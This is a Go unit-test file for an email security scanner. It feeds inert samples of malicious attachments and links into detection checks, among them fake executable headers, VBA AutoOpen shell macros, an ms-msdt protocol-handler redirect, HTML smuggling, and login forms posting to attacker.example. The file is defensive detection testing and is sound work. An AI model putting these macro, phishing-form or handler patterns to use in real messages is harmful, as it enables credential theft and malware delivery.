@@ -1,0 +1,419 @@
+package heuristic
+
+import (
+	"context"
+	"encoding/binary"
+	"os"
+	"path/filepath"
+	"strings"
+	"sync"
+	"testing"
+
+	"github.com/kensa-milter/kensa/message"
+	"github.com/kensa-milter/kensa/scanners"
+	"github.com/kensa-milter/kensa/urls"
+)
+
+// --- harmless stand-ins ---
+
+// fakePE is a DOS header pointing at a "PE\0\0" signature and nothing else:
+// enough to be recognised, not enough to run.
+func fakePE() []byte {
+	b := make([]byte, 0x80)
+	copy(b, "MZ")
+	binary.LittleEndian.PutUint32(b[0x3C:], 0x40)
+	copy(b[0x40:], "PE\x00\x00")
+	return b
+}
+
+func fakeELF() []byte { return append([]byte("\x7fELF\x02\x01\x01"), make([]byte, 57)...) }
+
+func fakeLNK() []byte {
+	return append([]byte{0x4C, 0, 0, 0, 0x01, 0x14, 0x02, 0, 0, 0, 0, 0, 0xC0, 0, 0, 0, 0, 0, 0, 0x46}, make([]byte, 60)...)
+}
+
+func fakeISO() []byte {
+	b := make([]byte, 0x8010)
+	copy(b[0x8001:], "CD001")
+	return b
+}
+
+var (
+	pngBytes  = []byte("\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR")
+	jpegBytes = []byte{0xFF, 0xD8, 0xFF, 0xE0, 0, 0x10, 'J', 'F', 'I', 'F'}
+	zipBytes  = []byte("PK\x03\x04\x14\x00\x00\x00\x08\x00")
+	cleanPDF  = []byte("%PDF-1.4\n1 0 obj\n<< /Type /Annot /Subtype /Link /A << /S /URI /URI (https://www.example.com/report) >> >>\nendobj\n%%EOF\n")
+)
+
+func pdfWith(s string) []byte { return []byte("%PDF-1.7\n1 0 obj\n<< " + s + " >>\nendobj\n%%EOF\n") }
+
+// --- message builders ---
+
+type opt func(*message.Part)
+
+func named(n string) opt      { return func(p *message.Part) { p.Filename = n } }
+func declared(t string) opt   { return func(p *message.Part) { p.DeclaredType = t } }
+func container() opt          { return func(p *message.Part) { p.Container = true } }
+func encrypted() opt          { return func(p *message.Part) { p.Encrypted = true } }
+func unlockedBy(s string) opt { return func(p *message.Part) { p.UnlockedBy = s } }
+func part(path string, content []byte, opts ...opt) *message.Part {
+	p := &message.Part{Path: path, Content: content, Depth: strings.Count(path, "/")}
+	for _, o := range opts {
+		o(p)
+	}
+	return p
+}
+func text(path, s string, opts ...opt) *message.Part { return part(path, []byte(s), opts...) }
+func htmlPart(path, s string, opts ...opt) *message.Part {
+	return part(path, []byte(s), append([]opt{declared("text/html")}, opts...)...)
+}
+func msg(parts ...*message.Part) *message.Message {
+	return &message.Message{Parts: parts, From: "Alice <alice@example.com>",
+		Envelope: message.Envelope{Sender: "alice@example.com"}}
+}
+
+// attach is the usual shape: a text body and one attachment.
+func attach(p *message.Part) *message.Message {
+	return msg(text("1", "Please see the attachment.", declared("text/plain")), p)
+}
+
+func zipWith(member *message.Part) *message.Message {
+	return msg(text("1", "hello"), part("2", zipBytes, named("a.zip"), container()), member)
+}
+
+func pdfStream(s string) *message.Message {
+	return msg(part("2", pdfWith("/Type /ObjStm"), named("x.pdf"), container()), text("2/x.pdf/stream-3", s))
+}
+
+func vba(path, code string) *message.Message {
+	return msg(part("2", zipBytes, named("x.docm"), container()), text(path, code))
+}
+
+func relsMsg(rel string) *message.Message {
+	return msg(part("2", zipBytes, named("x.docx"), container()),
+		text("2/x.docx/word/_rels/settings.xml.rels", `<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">`+rel+`</Relationships>`))
+}
+
+func body(html string) *message.Message { return msg(htmlPart("1", html)) }
+
+// --- fakes for pure-logic unit tests ---
+
+type fakeDNSBL struct {
+	mu      sync.Mutex
+	listed  map[string]string
+	queries []string
+	max     int
+}
+
+func (f *fakeDNSBL) Lookup(_ context.Context, host string) ([]urls.Listing, error) {
+	f.mu.Lock()
+	defer f.mu.Unlock()
+	f.queries = append(f.queries, host)
+	if a, ok := f.listed[host]; ok {
+		return []urls.Listing{{Zone: "dbl.test", Answer: a}}, nil
+	}
+	return nil, nil
+}
+func (f *fakeDNSBL) MaxQueries() int { return f.max }
+
+func testBlocklist(t *testing.T) *urls.Blocklist {
+	t.Helper()
+	path := filepath.Join(t.TempDir(), "block.txt")
+	if err := os.WriteFile(path, []byte("# test list\nevil.example\nhttps://sites.example.net/bad/\n"), 0o600); err != nil {
+		t.Fatal(err)
+	}
+	bl, err := urls.LoadBlocklist(path)
+	if err != nil {
+		t.Fatal(err)
+	}
+	return bl
+}
+
+func newScanner(t *testing.T) *Scanner {
+	t.Helper()
+	s, err := New(nil, Options{Blocklist: testBlocklist(t),
+		DNSBL: &fakeDNSBL{max: 20, listed: map[string]string{"listed.example": "127.0.1.2"}}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	return s
+}
+
+func scan(t *testing.T, s *Scanner, m *message.Message) []scanners.Finding {
+	t.Helper()
+	f, err := s.Scan(context.Background(), m)
+	if err != nil {
+		t.Fatalf("Scan: %v", err)
+	}
+	return f
+}
+
+func find(fs []scanners.Finding, id string) *scanners.Finding {
+	for i := range fs {
+		if fs[i].ID == id {
+			return &fs[i]
+		}
+	}
+	return nil
+}
+
+// sample is a message and the part a check must name ("" when it must not fire).
+type sample struct {
+	name string
+	m    *message.Message
+	part string
+}
+
+func TestChecks(t *testing.T) {
+	cases := map[string][]sample{
+		"dangerous-executable": {
+			{"PE bytes", attach(part("2", fakePE(), named("setup.exe"))), "2"},
+			{"ELF bytes, no name", attach(part("2", fakeELF())), "2"},
+			{"name only", attach(text("2", "not really", named("Tool.EXE"))), "2"},
+			{"trailing dot and space", attach(text("2", "x", named("run.scr. "))), "2"},
+			{"in a zip speaks elsewhere", zipWith(part("2/a.zip/setup.exe", fakePE(), named("setup.exe"))), ""},
+			{"pdf", attach(part("2", cleanPDF, named("report.pdf"))), ""},
+			{"text starting MZ", attach(text("2", "MZ Bank statement", named("statement.txt"))), ""},
+		},
+		"dangerous-script": {
+			{"js", attach(text("2", "var a", named("invoice.js"))), "2"},
+			{"ps1 upper", attach(text("2", "x", named("RUN.PS1"))), "2"},
+			{"hta", attach(text("2", "x", named("a.hta"))), "2"},
+			{"txt", attach(text("2", "x", named("script.txt"))), ""},
+		},
+		"dangerous-shortcut": {
+			{"lnk by name", attach(text("2", "x", named("doc.lnk"))), "2"},
+			{"lnk by bytes", attach(part("2", fakeLNK(), named("doc"))), "2"},
+			{"url", attach(text("2", "[InternetShortcut]\nURL=file://x", named("a.url"))), "2"},
+			{"search-ms", attach(text("2", "x", named("q.search-ms"))), "2"},
+			{"md", attach(text("2", "# hi", named("readme.md"))), ""},
+		},
+		"risky-container": {
+			{"iso by name", attach(part("2", zipBytes, named("disk.iso"))), "2"},
+			{"iso by bytes", attach(part("2", fakeISO(), named("photos"))), "2"},
+			{"onenote", attach(text("2", "x", named("notes.one"))), "2"},
+			{"png", attach(part("2", pngBytes, named("photo.png"))), ""},
+		},
+		"executable-in-container": {
+			{"exe in zip", zipWith(part("2/a.zip/payload.exe", fakePE(), named("payload.exe"))), "2/a.zip/payload.exe"},
+			{"unnamed PE in zip", zipWith(part("2/a.zip/x", fakePE())), "2/a.zip/x"},
+			{"js in zip", zipWith(text("2/a.zip/x.js", "var a", named("x.js"))), "2/a.zip/x.js"},
+			{"encrypted lnk", zipWith(part("2/a.zip/doc.lnk", nil, named("doc.lnk"), encrypted())), "2/a.zip/doc.lnk"},
+			{"no container flag", msg(part("2/a.iso/setup.exe", fakePE(), named("setup.exe"))), "2/a.iso/setup.exe"},
+			{"txt in zip", zipWith(text("2/a.zip/readme.txt", "hi", named("readme.txt"))), ""},
+			{"top-level exe", attach(part("2", fakePE(), named("setup.exe"))), ""},
+		},
+		"disguised-executable": {
+			{"PE named pdf", attach(part("2", fakePE(), named("invoice.pdf"))), "2"},
+			{"PE declared pdf", attach(part("2", fakePE(), declared("application/pdf"))), "2"},
+			{"ELF named jpg in zip", zipWith(part("2/a.zip/cat.jpg", fakeELF(), named("cat.jpg"))), "2/a.zip/cat.jpg"},
+			{"PE named exe", attach(part("2", fakePE(), named("setup.exe"))), ""},
+			{"PE as octet-stream", attach(part("2", fakePE(), declared("application/octet-stream"))), ""},
+			{"real pdf", attach(part("2", cleanPDF, named("invoice.pdf"))), ""},
+		},
+		"type-mismatch": {
+			{"zip named pdf", attach(part("2", zipBytes, named("invoice.pdf"))), "2"},
+			{"pdf declared png", attach(part("2", cleanPDF, declared("image/png"))), "2"},
+			{"docx that is OLE", attach(part("2", []byte{0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1}, named("enc.docx"))), ""},
+			{"jpg that is png", attach(part("2", pngBytes, named("photo.jpg"))), ""},
+			{"pdf as octet-stream", attach(part("2", cleanPDF, named("a.pdf"), declared("application/octet-stream"))), ""},
+		},
+		"double-extension": {
+			{"pdf.exe", attach(text("2", "x", named("invoice.pdf.exe"))), "2"},
+			{"padded", attach(text("2", "x", named("report.docx      .js"))), "2"},
+			{"JPG.lnk", attach(text("2", "x", named("scan.JPG.lnk"))), "2"},
+			{"padding only", attach(text("2", "x", named("photo                .scr"))), "2"},
+			{"tar.gz", attach(text("2", "x", named("backup.tar.gz"))), ""},
+			{"version", attach(text("2", "x", named("setup.1.2.exe"))), ""},
+			{"dots in name", attach(text("2", "x", named("report.final.pdf"))), ""},
+		},
+		"rtlo-filename": {
+			{"rtlo", attach(text("2", "x", named("invoice\u202Efdp.exe"))), "2"},
+			{"arabic", attach(text("2", "x", named("فاتورة.pdf"))), ""},
+			{"japanese", attach(text("2", "x", named("請求書.pdf"))), ""},
+		},
+		"bidi-filename": {
+			{"isolate", attach(text("2", "x", named("a\u2067b\u2069.pdf"))), "2"},
+			{"hebrew", attach(text("2", "x", named("חשבונית.pdf"))), ""},
+		},
+		"homoglyph-filename": {
+			{"cyrillic o", attach(text("2", "x", named("invоice.pdf"))), "2"},
+			{"dot leader", attach(text("2", "x", named("report\u2024pdf"))), "2"},
+			{"russian", attach(text("2", "x", named("Отчёт 2024.pdf"))), ""},
+			{"russian and latin words", attach(text("2", "x", named("Report_Отчёт.pdf"))), ""},
+		},
+		"encrypted-archive": {
+			{"encrypted member", zipWith(part("2/a.zip/doc.pdf", nil, named("doc.pdf"), encrypted())), "2/a.zip/doc.pdf"},
+			{"plain member", zipWith(part("2/a.zip/doc.pdf", cleanPDF, named("doc.pdf"))), ""},
+		},
+		"password-from-body": {
+			{"body", msg(text("1", "password: abc"), part("2", zipBytes, named("a.zip"), container(), unlockedBy("body"))), "2"},
+			{"subject", msg(part("2", zipBytes, named("a.zip"), container(), unlockedBy("subject"))), "2"},
+			{"config", msg(part("2", zipBytes, named("a.zip"), container(), unlockedBy("config"))), ""},
+		},
+		"vba-autorun-exec": {
+			{"autoopen shell", vba("2/x.docm/vba/Module1", "Sub AutoOpen()\n  Shell \"cmd /c calc\", vbHide\nEnd Sub\n"), "2/x.docm/vba/Module1"},
+			{"document_open computed createobject", msg(text("3", "Attribute VB_Name = \"ThisDocument\"\nPrivate Sub Document_Open()\n Set o = CreateObject(k & \"ell\")\nEnd Sub\n", named("macro.bas"))), "3"},
+			{"workbook_open download", vba("2/x.docm/vba/ThisWorkbook", "Private Sub Workbook_Open()\nURLDownloadToFile 0, u, f, 0, 0\nEnd Sub"), "2/x.docm/vba/ThisWorkbook"},
+			{"autorun only", vba("2/x.docm/vba/Module1", "Sub Workbook_Open()\n Set d = CreateObject(\"Scripting.Dictionary\")\nEnd Sub"), ""},
+			{"exec only", vba("2/x.docm/vba/Module1", "Sub Button1_Click()\n Shell \"notepad\"\nEnd Sub"), ""},
+			{"prose", msg(text("1", "Our shell fittings ship Monday. The sub AutoOpen committee meets; end sub.")), ""},
+		},
+		"vba-autorun": {
+			{"workbook_open dictionary", vba("2/x.docm/vba/Module1", "Sub Workbook_Open()\n Set d = CreateObject(\"Scripting.Dictionary\")\nEnd Sub"), "2/x.docm/vba/Module1"},
+			{"with exec", vba("2/x.docm/vba/Module1", "Sub AutoOpen()\n Shell \"calc\"\nEnd Sub"), ""},
+			{"no autorun", vba("2/x.docm/vba/Module1", "Sub Tidy()\n Range(\"A1\").Value = 1\nEnd Sub"), ""},
+		},
+		"vba-exec": {
+			{"button shell", vba("2/x.docm/vba/Module1", "Sub Button1_Click()\n Shell \"notepad\"\nEnd Sub"), "2/x.docm/vba/Module1"},
+			{"variable named shell", vba("2/x.docm/vba/Module1", "Sub Tidy()\n Dim shell As Integer\n shellCount = 1\nEnd Sub"), ""},
+		},
+		"remote-template": {
+			{"attachedTemplate http", relsMsg(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://203.0.113.9/t.dotm" TargetMode="External"/>`), "2/x.docx/word/_rels/settings.xml.rels"},
+			{"oleObject UNC", relsMsg(`<Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/oleObject" Target="\\203.0.113.9\share\x.doc" TargetMode="External"/>`), "2/x.docx/word/_rels/settings.xml.rels"},
+			{"hyperlink", relsMsg(`<Relationship Id="rId9" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://www.example.com/" TargetMode="External"/>`), ""},
+			{"local template", relsMsg(`<Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="file:///C:\Users\a\Normal.dotm" TargetMode="External"/>`), ""},
+		},
+		"ms-protocol-handler": {
+			{"follina html", msg(htmlPart("2/x.docx/word/x.html", `<script>location.href = "ms-msdt:/id PCWDiagnostic /skip force";</script>`)), "2/x.docx/word/x.html"},
+			{"search-ms rels", relsMsg(`<Relationship Id="r" Type="x/oleObject" Target="search-ms:query=invoice&amp;crumb=location:\\203.0.113.9\s" TargetMode="External"/>`), "2/x.docx/word/_rels/settings.xml.rels"},
+			{"plain text mention", msg(text("1", "Windows search-ms: links are handy.")), ""},
+		},
+		"html-smuggling": {
+			{"blob with payload", attach(htmlPart("2", `<html><script>var d=atob("`+strings.Repeat("QUFB", 2000)+`");var b=new Blob([d]);var u=URL.createObjectURL(b);</script></html>`, named("doc.html"))), "2"},
+			{"download data link", attach(htmlPart("2", `<a download="invoice.zip" href="data:application/zip;base64,UEsDBA==">get</a>`, named("doc.html"))), "2"},
+			{"inline image, no blob", body(`<p>hi</p><img src="data:image/png;base64,` + strings.Repeat("QUFB", 3000) + `">`), ""},
+			{"small blob", body(`<script>var b = new Blob(["hi"]);</script>`), ""},
+		},
+		"html-credential-form": {
+			{"attachment posts away", attach(htmlPart("2", `<form action="https://collect.attacker.example/p" method="post"><input type="email"><input type="password" name="pw"></form>`, named("login.html"))), "2"},
+			{"body posts to other domain", body(`<form action="https://collect.attacker.example/p"><input type=PASSWORD></form>`), "1"},
+			{"data action", body(`<form action="data:text/html,x"><input type="password"></form>`), "1"},
+			{"body posts to sender domain", body(`<form action="https://login.example.com/p"><input type="password"></form>`), ""},
+			{"no password", body(`<form action="https://survey.attacker.example/"><input type="text"></form>`), ""},
+			{"relative action", attach(htmlPart("2", `<form action="/login"><input type="password"></form>`, named("a.html"))), ""},
+		},
+		"svg-script": {
+			{"script", attach(text("2", `<svg xmlns="http://www.w3.org/2000/svg"><script>location="https://x.example"</script></svg>`, named("img.svg"))), "2"},
+			{"onload", attach(text("2", `<svg onload="go()"></svg>`, declared("image/svg+xml"))), "2"},
+			{"plain svg", attach(text("2", `<svg xmlns="http://www.w3.org/2000/svg"><circle r="4"/></svg>`, named("dot.svg"))), ""},
+		},
+		"pdf-javascript": {
+			{"javascript", attach(part("2", pdfWith("/OpenAction << /S /JavaScript /JS (app.alert(1)) >>"), named("a.pdf"))), "2"},
+			{"hex escaped", attach(part("2", pdfWith("/OpenAction << /S /J#61vaScript /J#53 (x) >>"), named("a.pdf"))), "2"},
+			{"in object stream", pdfStream("<< /S /JS (x) >>"), "2/x.pdf/stream-3"},
+			{"clean", attach(part("2", cleanPDF, named("a.pdf"))), ""},
+			{"not a pdf", msg(text("1", "see /JavaScript docs")), ""},
+		},
+		"pdf-launch": {
+			{"launch", attach(part("2", pdfWith("/OpenAction << /S /Launch /F (cmd.exe) >>"), named("a.pdf"))), "2"},
+			{"escaped", attach(part("2", pdfWith("/A << /S /L#61unch >>"), named("a.pdf"))), "2"},
+			{"clean", attach(part("2", cleanPDF, named("a.pdf"))), ""},
+		},
+		"pdf-active-content": {
+			{"openaction", attach(part("2", pdfWith("/OpenAction 3 0 R"), named("a.pdf"))), "2"},
+			{"embedded file", attach(part("2", pdfWith("/Type /EmbeddedFile"), named("a.pdf"))), "2"},
+			{"uri only", attach(part("2", cleanPDF, named("a.pdf"))), ""},
+		},
+		"blocklisted-url": {
+			{"subdomain in text", msg(text("1", "go to http://www.evil.example/x now")), "1"},
+			{"url prefix", body(`<a href="https://sites.example.net/bad/page">here</a>`), "1"},
+			{"other domain", msg(text("1", "https://notevil.example/")), ""},
+			{"prefix not at boundary", msg(text("1", "https://sites.example.net/badger")), ""},
+		},
+		"dnsbl-url": {
+			{"listed", msg(text("1", "https://www.listed.example/x")), "1"},
+			{"not listed", msg(text("1", "https://www.example.org/x")), ""},
+		},
+		"lookalike-domain": {
+			{"cyrillic a", msg(text("1", "https://www.pаypal.com/login")), "1"},
+			{"punycode", msg(text("1", "http://xn--pypal-4ve.com/")), "1"},
+			{"rn for m", body(`<a href="https://rnicrosoft.com/x">sign in</a>`), "1"},
+			{"zeros", msg(text("1", "https://g00gle.com/")), "1"},
+			{"real", msg(text("1", "https://www.paypal.com/ and https://paypal.example.org/")), ""},
+			{"googlemail", msg(text("1", "https://googlemail.com/")), ""},
+		},
+		"mixed-script-domain": {
+			{"mixed", msg(text("1", "https://pаypal.com/")), "1"},
+			{"all cyrillic", msg(text("1", "https://пример.рф/")), ""},
+			{"ascii", msg(text("1", "https://example.com/")), ""},
+		},
+		"userinfo-url": {
+			{"bank at ip", msg(text("1", "https://bank.example@198.51.100.7/login")), "1"},
+			{"ftp login", msg(text("1", "ftp://user:pw@ftp.example.com/")), ""},
+		},
+		"ip-url": {
+			{"ipv4", msg(text("1", "http://198.51.100.7/x")), "1"},
+			{"ipv6", body(`<a href="http://[2001:db8::1]/">x</a>`), "1"},
+			{"decimal", body(`<a href="http://3232235777/">x</a>`), "1"},
+			{"name", msg(text("1", "https://www.example.com/")), ""},
+		},
+		"link-text-mismatch": {
+			{"other domain", body(`<a href="https://attacker.example/x">www.example.org</a>`), "1"},
+			{"same domain", body(`<a href="https://example.com/a">www.example.com</a>`), ""},
+			{"words", body(`<a href="https://attacker.example/x">Click here</a>`), ""},
+			{"file name", body(`<a href="https://cdn.example.net/f">report.pdf</a>`), ""},
+			{"brand speaks elsewhere", body(`<a href="https://attacker.example/">https://www.paypal.com/</a>`), ""},
+		},
+		"link-text-brand-mismatch": {
+			{"paypal", body(`<a href="https://attacker.example/">https://www.paypal.com/signin</a>`), "1"},
+			{"real paypal", body(`<a href="https://www.paypal.com/x">paypal.com</a>`), ""},
+			{"non-brand", body(`<a href="https://attacker.example/x">www.example.org</a>`), ""},
+		},
+		"data-link": {
+			{"anchor", body(`<a href="data:text/html;base64,PHNjcmlwdD4=">Open</a>`), "1"},
+			{"form action", body(`<form action="data:text/html,x"></form>`), "1"},
+			{"inline image", body(`<img src="data:image/png;base64,iVBORw0KGgo=">`), ""},
+		},
+		"javascript-link": {
+			{"anchor", body(`<a href="javascript:alert(1)">x</a>`), "1"},
+			{"split by newline", body("<a href=\"java\nscript:alert(1)\">x</a>"), "1"},
+			{"https", body(`<a href="https://example.com/">x</a>`), ""},
+		},
+	}
+	s := newScanner(t)
+	for _, c := range Checks() {
+		samples, ok := cases[c.ID]
+		if !ok {
+			t.Errorf("check %s has no test samples", c.ID)
+			continue
+		}
+		pos := 0
+		for _, sm := range samples {
+			if sm.part != "" {
+				pos++
+			}
+			t.Run(c.ID+"/"+sm.name, func(t *testing.T) {
+				fs := scan(t, s, sm.m)
+				f := find(fs, c.ID)
+				switch {
+				case sm.part == "" && f != nil:
+					t.Errorf("unexpected %s on %s: %s", c.ID, f.Part, f.Detail)
+				case sm.part != "" && f == nil:
+					t.Errorf("no %s finding; got %+v", c.ID, fs)
+				case sm.part != "" && f.Part != sm.part:
+					t.Errorf("%s on part %q, want %q", c.ID, f.Part, sm.part)
+				case f != nil && (f.Severity != c.Severity || f.Score != c.Score || f.Scanner != Name || f.Detail == ""):
+					t.Errorf("finding %+v does not carry the check's defaults %+v", *f, c)
+				}
+			})
+		}
+		if pos == 0 {
+			t.Errorf("check %s has no positive sample", c.ID)
+		}
+	}
+	for id := range cases {
+		if !known(id) {
+			t.Errorf("samples for unknown check %s", id)
+		}
+	}
+}
+
+func known(id string) bool {
+	for _, c := range Checks() {
+		if c.ID == id {
+			return true
+		}
+	}
+	return false
+}
